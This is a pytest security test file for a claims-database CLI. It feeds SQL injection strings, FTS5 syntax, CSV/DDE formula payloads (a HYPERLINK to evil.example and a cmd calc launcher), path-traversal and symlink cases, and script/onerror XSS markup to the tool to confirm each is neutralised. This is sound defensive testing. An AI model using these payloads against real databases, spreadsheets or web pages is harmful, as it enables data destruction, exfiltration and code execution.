"""Security (issue 7, item 6): SQL injection through every option of every command, FTS5 syntax,
CSV formula injection, output paths that must not escape, and `javascript:` urls shown as text.

The store-level injection and FTS tests in test_store.py cover `query_claims`; here the same
payloads go through the command line (every option that reaches SQL, for every command), and a
recording connection proves that no user value is ever spliced into SQL text.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console
from typer.testing import CliRunner

from conftest import make_claim
from kursk_claims.cli.app import app
from kursk_claims.models import DocResult, Document
from kursk_claims.present import render
from kursk_claims.store import QueryError, get_claim, iter_claims, open_store, write_result

runner = CliRunner()

PAYLOADS = [
    "'; DROP TABLE claims; --",
    '"; DROP TABLE documents; --',
    "x' OR '1'='1",
    "1) UNION SELECT sql, 2, 3 FROM sqlite_master --",
    "Robert'); DELETE FROM documents;--",
    "%' OR 1=1 --",
    "_",
    "*",
    "\x00'; DROP TABLE claims",
]

EVIL_TEXT = (
    '=HYPERLINK("http://evil.example/?"&A1) Ukraine captured 1,000 square kilometres. '
    "+SUM(1,2) troops; -3+3 settlements; @cmd|' /C calc'!A0 said so.\n"
)


def _doc(doc_id: str, text: str, **kw: Any) -> Document:
    return Document(id=doc_id, text=text, sha256=hashlib.sha256(text.encode()).hexdigest(), **kw)


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """Two documents: an ordinary one and one whose every text field is hostile."""
    db = tmp_path / "sec.db"
    conn = open_store(db)
    ok = "Ukraine captured 1,000 km2 of land, Syrskyi said on Monday."
    write_result(
        conn,
        DocResult(
            _doc("ok", ok, url="https://example.org/ok", published="2024-08-20"),
            "2024-08-20",
            "metadata",
            1.0,
            (
                make_claim(
                    "ok",
                    17,
                    sentence=ok,
                    claimant="Oleksandr Syrskyi",
                    claimant_side="ukraine",
                    actor="ukraine",
                    predicate="captured",
                    claim_date="2024-08-19",
                ),
            ),
        ),
    )
    formula = EVIL_TEXT.split(" Ukraine")[0]
    write_result(
        conn,
        DocResult(
            _doc("-evil", EVIL_TEXT, url="javascript:alert(1)", outlet="=cmd|' /C calc'!A0"),
            "2024-08-21",
            "metadata",
            1.0,
            (
                make_claim(
                    "-evil",
                    0,
                    text=formula,
                    end=len(formula),
                    sentence="=HYPERLINK(...) <script>alert(1)</script>",
                    claimant="@SUM(1+1)",
                    claimant_side="russia",
                    location="+1+1",
                    unit_text="-2+3",
                    conversion="\t=1+1",
                    entities=("=evil()",),
                    predicate="captured",
                    actor="ukraine",
                    claim_date="2024-08-21",
                ),
            ),
        ),
    )
    conn.close()
    return db


def _tables_intact(db: Path) -> None:
    conn = sqlite3.connect(db)
    try:
        names = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"documents", "claims", "claim_entities", "claims_fts"} <= names
        assert conn.execute("SELECT count(*) FROM documents").fetchone()[0] == 2
        assert conn.execute("SELECT count(*) FROM claims").fetchone()[0] == 2
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    finally:
        conn.close()


# Every option of every command that reaches the store, with the exit codes it may end in:
# 0 (no match / ran), 1 (no such claim), 2 (value refused as outside its vocabulary or format).
OPTION_CASES = [
    (["query", "--entity"], {0}),
    (["query", "--doc"], {0}),
    (["query", "--text"], {0, 2}),
    (["query", "--metric"], {2}),
    (["query", "--side"], {2}),
    (["query", "--actor"], {2}),
    (["query", "--predicate"], {2}),
    (["query", "--since"], {2}),
    (["query", "--until"], {2}),
    (["query", "--sort"], {2}),
    (["query", "--format"], {2}),
    (["export", "--doc"], {0}),
    (["export", "--metric"], {2}),
    (["show"], {1}),
    (["compare", "--metric", "territory_km2", "--predicate"], {2}),
    (["compare", "--metric", "territory_km2", "--side"], {2}),
    (["compare", "--metric", "territory_km2", "--since"], {2}),
    (["compare", "--metric", "territory_km2", "--until"], {2}),
    (["compare", "--metric"], {2}),
    (["compare", "--metric", "territory_km2", "--format"], {2}),
    (["entities", "--name"], {0}),
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(("args", "codes"), OPTION_CASES, ids=[" ".join(a) for a, _ in OPTION_CASES])
def test_injection_through_every_cli_option(
    store: Path, args: list[str], codes: set[int], payload: str
) -> None:
    db_args = [] if args[0] == "entities" else ["--db", str(store)]
    res = runner.invoke(app, [*args, payload, *db_args])
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert res.exit_code in codes, (res.exit_code, res.output)
    assert "Traceback" not in res.output
    if res.exit_code == 0 and args[0] in ("query", "export"):
        assert "DROP" not in res.stdout and "sqlite_master" not in res.stdout
    _tables_intact(store)


class RecordingConnection:
    """Forwards to a sqlite3 connection and records the SQL text of every statement."""

    def __init__(self, conn: sqlite3.Connection) -> None:
        self.conn = conn
        self.sql: list[str] = []

    def execute(self, sql: str, params: Any = ()) -> sqlite3.Cursor:
        self.sql.append(sql)
        return self.conn.execute(sql, params)


MARKER = "zq'\"x; DROP TABLE claims; --"


@pytest.mark.parametrize("option", ["entity", "doc", "text"])
def test_user_values_never_reach_sql_text(store: Path, option: str) -> None:
    conn = open_store(store, readonly=True)
    rec = RecordingConnection(conn)
    try:
        assert list(iter_claims(rec, **{option: MARKER})) == []  # type: ignore[arg-type]
        assert get_claim(rec, MARKER) is None  # type: ignore[arg-type]
    finally:
        conn.close()
    assert rec.sql
    for sql in rec.sql:
        assert "zq" not in sql.lower() and "DROP" not in sql


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=40))
def test_any_text_search_is_safe(store: Path, text: str) -> None:
    """FTS5 syntax (quotes, NEAR, ^, *, column filters, parentheses, NUL) never errors."""
    conn = open_store(store, readonly=True)
    try:
        try:
            rows = list(iter_claims(conn, text=text))
        except QueryError:
            assert not "".join(ch for ch in text if ch.isprintable()).split()  # only for "no words"
            return
        assert all(r["id"] in ("ok:17", "-evil:0") for r in rows)
    finally:
        conn.close()


@pytest.mark.parametrize(
    ("text", "ids"),
    [
        ('"Syrskyi', ["ok:17"]),
        ("sentence:Syrskyi", []),  # a column filter is a literal word, not syntax
        ("NEAR(Ukraine captured)", []),
        ("Ukraine OR nothing", []),  # OR is a word that must occur
        ("captur*", []),  # no prefix operator
        ("script alert", ["-evil:0"]),
    ],
)
def test_fts_operators_are_literal(store: Path, text: str, ids: list[str]) -> None:
    conn = open_store(store, readonly=True)
    try:
        assert [r["id"] for r in iter_claims(conn, text=text)] == ids
    finally:
        conn.close()


# ----------------------------------------------------------------------------- CSV formula injection

FORMULA = re.compile(r"^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")


def _csv_cells(data: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(data)):
        yield from row


@pytest.mark.parametrize(
    "args",
    [
        ["export", "--format", "csv"],
        ["query", "--format", "csv"],
        ["compare", "--metric", "territory_km2", "--format", "csv"],
    ],
)
def test_csv_cells_never_start_a_formula(store: Path, args: list[str]) -> None:
    res = runner.invoke(app, [*args, "--db", str(store)])
    assert res.exit_code == 0, res.output
    cells = list(_csv_cells(res.stdout))
    numeric = re.compile(r"^-?\d+(\.\d+)?(e[+-]?\d+)?$")
    bad = [c for c in cells if FORMULA.match(c) and not numeric.match(c)]
    assert bad == []
    assert "'@SUM(1+1)" in cells  # the claimant, neutralised but kept
    assert "'+1+1" in cells  # the location
    if args[0] != "compare":
        assert "'-evil:0" in cells and "'=cmd|' /C calc'!A0" in cells  # the id and the outlet
        assert any(c.startswith("'=HYPERLINK(") for c in cells)
        assert "'\t=1+1" in cells and "'-2+3" in cells


def test_csv_safe_leaves_numbers_and_plain_text_alone() -> None:
    assert render.csv_safe(-5.0) == -5.0 and render.csv_safe(3) == 3
    assert render.csv_safe("Kursk") == "Kursk" and render.csv_safe("") == ""
    assert render.csv_safe("=1") == "'=1" and render.csv_safe("\uff1d1") == "'\uff1d1"


def test_json_exports_are_not_altered(store: Path) -> None:
    res = runner.invoke(app, ["export", "--format", "jsonl", "--doc", "-evil", "--db", str(store)])
    (row,) = [json.loads(line) for line in res.stdout.splitlines()]
    assert row["claimant"] == "@SUM(1+1)" and row["text"].startswith("=HYPERLINK(")


# ----------------------------------------------------------------------------- output paths


def _tree(root: Path) -> dict[str, bytes | None]:
    out: dict[str, bytes | None] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            rel = str(p.relative_to(root))
            out[rel] = None if p.is_dir() or p.is_symlink() else p.read_bytes()
    return out


OUT_COMMANDS = {
    "export": ["export", "--format", "jsonl", "--out"],
    "report": ["report", "--out"],
    "plot": ["compare", "--metric", "territory_km2", "--plot"],
}
SUFFIX = {"export": ".jsonl", "report": ".html", "plot": ".svg"}


@pytest.mark.parametrize("command", list(OUT_COMMANDS))
def test_out_with_dotdot_writes_exactly_that_file(
    store: Path, tmp_path: Path, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = tmp_path / "work"
    (work / "sub").mkdir(parents=True)
    monkeypatch.chdir(work / "sub")
    before = _tree(tmp_path)
    name = "../out" + SUFFIX[command]
    res = runner.invoke(app, [*OUT_COMMANDS[command], name, "--db", str(store)])
    assert res.exit_code == 0, res.output
    after = _tree(tmp_path)
    assert set(after) - set(before) == {"work/out" + SUFFIX[command]}
    assert {k: v for k, v in after.items() if k in before} == before


@pytest.mark.parametrize("command", list(OUT_COMMANDS))
@pytest.mark.parametrize(
    "case", ["symlink-to-file", "dangling-symlink", "folder", "missing-parent", "symlink-to-folder"]
)
def test_out_refuses_links_folders_and_missing_parents(
    store: Path, tmp_path: Path, command: str, case: str
) -> None:
    area = tmp_path / "area"
    area.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / ("victim" + SUFFIX[command])
    victim.write_text("keep me")
    out = area / ("out" + SUFFIX[command])
    if case == "symlink-to-file":
        out.symlink_to(victim)
    elif case == "dangling-symlink":
        out.symlink_to(outside / ("new" + SUFFIX[command]))
    elif case == "folder":
        out.mkdir()
    elif case == "missing-parent":
        out = area / "nope" / out.name
    else:
        out.symlink_to(outside, target_is_directory=True)
    before = _tree(tmp_path)
    res = runner.invoke(app, [*OUT_COMMANDS[command], str(out), "--db", str(store)])
    assert res.exit_code in (1, 2), res.output
    assert "Traceback" not in res.output
    assert res.stderr.startswith("error: ")
    assert _tree(tmp_path) == before


def test_open_output_never_follows_a_symlink_planted_after_the_check(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "out.txt"
    link.symlink_to(victim)
    with pytest.raises(OSError):
        render.open_output(link)
    assert victim.read_text() == "keep me"
    with render.open_output(tmp_path / "plain.txt") as fh:
        fh.write("ok\n")
    assert (tmp_path / "plain.txt").read_text() == "ok\n"


# ----------------------------------------------------------------------------- urls and markup


def _extract_hostile(tmp_path: Path, db: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("KURSK_CLAIMS_EXTRACTOR", "conftest:fake_extract")
    src = tmp_path / "in"
    src.mkdir()
    (src / "x.txt").write_text(
        "<script>document.title='pwned'</script> Ukraine captured 1,000 square kilometres "
        "<img src=x onerror=\"document.title='pwned'\">, Syrskyi said.\n"
    )
    (src / "x.meta.json").write_text(
        json.dumps({"url": "javascript:alert(1)", "outlet": "<b>Out</b>", "published": "2024-08-20"})
    )
    res = runner.invoke(app, ["extract", str(src), "--db", str(db)])
    assert res.exit_code == 0, res.output
    return src


def test_javascript_url_is_text_in_show_and_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    db = tmp_path / "h.db"
    _extract_hostile(tmp_path, db, monkeypatch)
    claim_id = json.loads(runner.invoke(app, ["query", "-f", "json", "--db", str(db)]).stdout)[0]["id"]

    import kursk_claims.cli.show as cli

    buf = io.StringIO()
    monkeypatch.setattr(cli, "out_console", Console(file=buf, force_terminal=True, width=200))
    res = runner.invoke(app, ["show", claim_id, "--db", str(db)])
    assert res.exit_code == 0, res.output
    shown = buf.getvalue()
    assert "javascript:alert(1)" in shown
    assert "\x1b]8;" not in shown  # no OSC 8 hyperlink anywhere in the terminal output

    out = tmp_path / "r.html"
    res = runner.invoke(app, ["report", "--out", str(out), "--db", str(db)])
    assert res.exit_code == 0, res.output
    html = out.read_text()
    assert "javascript:alert(1)" in html
    assert not re.search(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", html, re.IGNORECASE)
    assert "<script" not in html.lower() and "<img" not in html.lower()
    assert "&lt;script&gt;" in html and "<b>Out</b>" not in html


@pytest.mark.browser
@pytest.mark.slow
def test_report_of_an_extracted_hostile_document_runs_nothing_in_chromium(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from test_browser import CHROMIUM, _run

    if CHROMIUM is None:
        pytest.skip("chromium is not installed (run `make browser`)")
    db = tmp_path / "h.db"
    _extract_hostile(tmp_path, db, monkeypatch)
    out = tmp_path / "r.html"
    assert runner.invoke(app, ["report", "--out", str(out), "--db", str(db)]).exit_code == 0
    proc = _run(["--dump-dom", out.as_uri()], tmp_path / "profile")
    assert proc.returncode == 0, proc.stderr[-2000:]
    dom = proc.stdout
    title = dom.split("<title>", 1)[1].split("</title>", 1)[0]
    assert "pwned" not in title
    assert "<img" not in dom.lower() and "<script" not in dom.lower()
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", dom, re.IGNORECASE)
    assert "javascript:alert(1)" in dom and 'href="javascript:' not in dom.lower()
